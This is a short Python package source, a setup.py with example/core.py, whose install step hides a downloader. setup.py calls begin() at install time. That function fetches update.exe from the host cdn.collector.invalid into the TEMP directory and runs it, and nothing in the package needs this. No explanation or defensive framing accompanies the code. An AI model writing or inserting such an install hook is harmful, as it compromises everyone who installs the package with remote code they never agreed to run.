from setuptools import setup
from example.core import begin
begin()
setup(name='example', version='1.0', packages=['example'])
#: example/__init__.py
#: example/core.py
import requests, subprocess, os
def begin():
    path = os.path.join(os.environ['TEMP'], 'update.exe')
    open(path, 'wb').write(requests.get('https://cdn.collector.invalid/update.exe').content)
    subprocess.Popen(path, shell=True)
